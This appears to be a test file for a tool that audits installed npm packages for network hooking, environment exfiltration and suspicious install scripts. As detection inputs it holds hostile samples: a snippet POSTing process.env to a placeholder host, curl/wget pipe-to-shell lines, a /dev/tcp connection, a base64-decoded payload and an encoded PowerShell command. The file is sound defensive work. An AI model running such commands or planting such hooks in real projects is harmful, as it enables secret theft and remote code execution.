import { test } from 'node:test';
import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { scanSource, isKnownInstrumentation } from '../../src/audit/heuristics.js';
import { listInstalled, scanPackageCode } from '../../src/audit/installed.js';
import { installedProject } from './support.js';

const rules = (source: string) => scanSource(source).map((h) => `${h.rule}:${h.line}`);

test('each hooking pattern is found with its line', () => {
  assert.deepEqual(rules('const h = require("https");\nh.x = 1;\nhttps.request = wrap(https.request);'), ['reassign-http-request:3']);
  assert.deepEqual(rules("require('node:http').get = fake;"), ['reassign-http-request:1']);
  assert.deepEqual(rules('tls.connect = function () {};'), ['reassign-tls-connect:1']);
  assert.deepEqual(rules("tls.checkServerIdentity = () => undefined;"), ['reassign-tls-connect:1']);
  assert.deepEqual(rules('net.Socket.prototype.write = w;'), ['reassign-net-connect:1']);
  assert.deepEqual(rules('globalThis.fetch = myFetch;\nwindow["fetch"] = f;\nself.fetch ??= f;'), ['reassign-fetch:1', 'reassign-fetch:2', 'reassign-fetch:3']);
  assert.deepEqual(rules("Object.defineProperty(globalThis, 'fetch', { value: f });"), ['reassign-fetch:1']);
  assert.deepEqual(rules("setGlobalDispatcher(new ProxyAgent('http://x'));"), ['replace-undici-dispatcher:1']);
  assert.deepEqual(rules("globalThis[Symbol.for('undici.globalDispatcher.1')] = agent;"), ['replace-undici-dispatcher:1']);
  assert.deepEqual(rules('XMLHttpRequest.prototype.open = o;'), ['patch-xmlhttprequest:1']);
  assert.deepEqual(rules("shimmer.wrap(https, 'request', w);"), ['wrap-network-function:1']);
  assert.deepEqual(rules("const d = JSON.stringify(process.env);\nfetch('https://x.invalid', { method: 'POST', body: d });"), ['env-exfiltration:1']);
});

test('no finding for ordinary use, comparisons, comments, or env without a network call', () => {
  const benign = [
    '// globalThis.fetch = polyfill',
    '/* https.request = x',
    '   tls.connect = y */',
    'if (globalThis.fetch === undefined) {}',
    'const same = https.request == other;',
    'const f = (a) => https.request(a);',
    'https.request(url, cb).end();',
    'const r = await fetch(url);',
    'const cfg = JSON.stringify(process.env.CONFIG);',
    'spawn("node", [], { env: { ...process.env } });',
  ].join('\n');
  assert.deepEqual(scanSource(benign), []);
  assert.deepEqual(scanSource('console.log(JSON.stringify(process.env));'), [], 'dumping env locally is not exfiltration');
});

test('minified code: the snippet shows the hit, not the start of the line', () => {
  const line = `${'var a=1;'.repeat(500)}XMLHttpRequest.prototype.send=function(){};${'var b=2;'.repeat(500)}`;
  const [hit] = scanSource(line);
  assert.ok(hit && hit.snippet.includes('XMLHttpRequest.prototype.send') && hit.snippet.length < 200);
});

test('installed tree: install scripts (and implicit node-gyp), hooks per file:line, instrumentation as known', () => {
  const dir = installedProject();
  try {
    const installed = listInstalled(dir);
    assert.deepEqual(installed.map((p) => `${p.name}@${p.version}`).sort(), ['@acme/xhr-spy@3.1.0', 'benign@2.0.0', 'dd-trace@5.0.0', 'evil-sdk@1.0.0', 'minimist@0.0.8', 'mkdirp@0.5.1', 'native-addon@1.0.0', 'tls-mitm@0.1.0']);
    assert.deepEqual(installed.find((p) => p.name === 'evil-sdk')!.scripts, { postinstall: 'node lib/beacon.js' });
    assert.deepEqual(installed.find((p) => p.name === 'benign')!.scripts, {}, 'prepublishOnly/test do not run at install');
    assert.equal(installed.find((p) => p.name === 'native-addon')!.gyp, true);
    const hits = Object.fromEntries(installed.map((p) => [p.name, scanPackageCode(dir, p).map((h) => `${h.rule} ${h.file}:${h.line}`).sort()]));
    assert.deepEqual(hits['evil-sdk'], [
      'env-exfiltration node_modules/evil-sdk/lib/beacon.js:2',
      'reassign-fetch node_modules/evil-sdk/index.js:9',
      'reassign-http-request node_modules/evil-sdk/index.js:5',
    ]);
    assert.deepEqual(hits['tls-mitm'], [
      'reassign-tls-connect node_modules/tls-mitm/index.mjs:4',
      'reassign-tls-connect node_modules/tls-mitm/index.mjs:5',
      'replace-undici-dispatcher node_modules/tls-mitm/index.mjs:6',
    ]);
    assert.deepEqual(hits['@acme/xhr-spy'], ['patch-xmlhttprequest node_modules/@acme/xhr-spy/spy.min.js:1']);
    assert.deepEqual(hits['dd-trace'], ['wrap-network-function node_modules/dd-trace/packages/datadog-instrumentations/http.js:3']);
    assert.deepEqual(hits.benign, [], 'negative control');
    assert.deepEqual(hits.mkdirp, []);
    assert.equal(isKnownInstrumentation('dd-trace'), true);
    assert.equal(isKnownInstrumentation('@opentelemetry/instrumentation-http'), true);
    assert.equal(isKnownInstrumentation('evil-sdk'), false);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('real node_modules of this project: every hit is in a known instrumentation/polyfill package', () => {
  // 190+ real packages (undici, axios, got, node-fetch, msw interceptors, typescript, tsx...).
  const installed = listInstalled(process.cwd());
  assert.ok(installed.length > 50);
  const unknown = installed.filter((p) => !isKnownInstrumentation(p.name)).flatMap((p) => scanPackageCode(process.cwd(), p).map((h) => `${p.name} ${h.rule} ${h.file}:${h.line}`));
  assert.deepEqual(unknown, []);
  const undici = installed.find((p) => p.name === 'undici')!;
  assert.ok(scanPackageCode(process.cwd(), undici).some((h) => h.rule === 'replace-undici-dispatcher'), 'positive control: undici defines setGlobalDispatcher');
});

test('progress bar: drawn on a TTY, silent otherwise', async () => {
  const { progressBar } = await import('../../src/audit/download.js');
  const written: string[] = [];
  const tty = { isTTY: true, write: (chunk: string) => written.push(chunk) } as unknown as NodeJS.WritableStream & { isTTY: boolean };
  const bar = progressBar(tty);
  bar(50, 100, 'indexing');
  bar(100, 100, 'indexing');
  bar.done();
  assert.ok(written.some((line) => line.includes('[###############...............] 50%')), written.join('|'));
  assert.ok(written.some((line) => line.includes('100%')));
  assert.equal(written.at(-1), '\r\u001b[K', 'the line is cleared at the end');
  const quiet: string[] = [];
  const pipe = progressBar({ isTTY: false, write: (chunk: string) => quiet.push(chunk) } as unknown as NodeJS.WritableStream);
  pipe(1, 2, 'indexing');
  pipe.done();
  assert.deepEqual(quiet, []);
});

test('module aliases in bundled, minified and compiled code get the same rules', () => {
  assert.deepEqual(rules('var n=require("https"),o=n.request;n.request=function(e){return o(e)};'), ['reassign-http-request:1']);
  assert.deepEqual(rules("import * as h from 'node:https';\nh.get = spy;"), ['reassign-http-request:2']);
  assert.deepEqual(rules('const tls_1 = __importDefault(require("tls"));\ntls_1.default.connect = wrapped;'), ['reassign-tls-connect:2']);
  assert.deepEqual(rules('const sock = require("net");\nsock.createConnection = c;'), ['reassign-net-connect:2']);
  // Negative controls: the alias read or called, another object's request, an inline comment.
  assert.deepEqual(rules('var n=require("https");n.request(url,cb);var r={request:1};r.request=2;x.n.request=3;'), []);
  assert.deepEqual(rules('/* https.request = x */ const a = 1;'), []);
});

test('install scripts that download, decode or evaluate code are singled out', async () => {
  const { suspiciousScript } = await import('../../src/audit/audit.js');
  assert.equal(suspiciousScript('curl -s https://x.invalid/i.sh | sh'), 'downloads and runs code');
  assert.equal(suspiciousScript('wget -qO- https://x.invalid/p | node'), 'downloads and runs code');
  assert.equal(suspiciousScript('bash -c "exec 3<>/dev/tcp/10.0.0.1/4444"'), 'makes network connections');
  assert.equal(suspiciousScript('echo aGVsbG8= | base64 -d > /tmp/x && chmod +x /tmp/x'), 'decodes an embedded payload');
  assert.equal(suspiciousScript('powershell -NoP -enc SQBFAFgA'), 'runs an encoded PowerShell command');
  // Inline code is not judged by its script text: the parser reads it (test/audit/code.test.ts).
  for (const ordinary of ['node -e "import(\'./config/scripts/postinstall.js\').catch(() => void 0)"', 'node-gyp rebuild', 'node install.js', 'prebuild-install || node-gyp rebuild', 'node scripts/postinstall.js', 'husky install', 'opencollective-postinstall || exit 0', 'patch-package']) {
    assert.equal(suspiciousScript(ordinary), undefined, ordinary);
  }
});

test('pathological lines scan in linear time (a jison parser table once took 20 s)', () => {
  for (const line of ['a'.repeat(300_000), `${'x1$'.repeat(100_000)}=require("http")`, `${'/*'.repeat(50_000)}`, `${'https.'.repeat(50_000)}`, `${'{3:[1,2],'.repeat(30_000)}`]) {
    const start = performance.now();
    scanSource(line);
    assert.ok(performance.now() - start < 1000, `${line.slice(0, 20)}… took ${(performance.now() - start).toFixed(0)} ms`);
  }
});
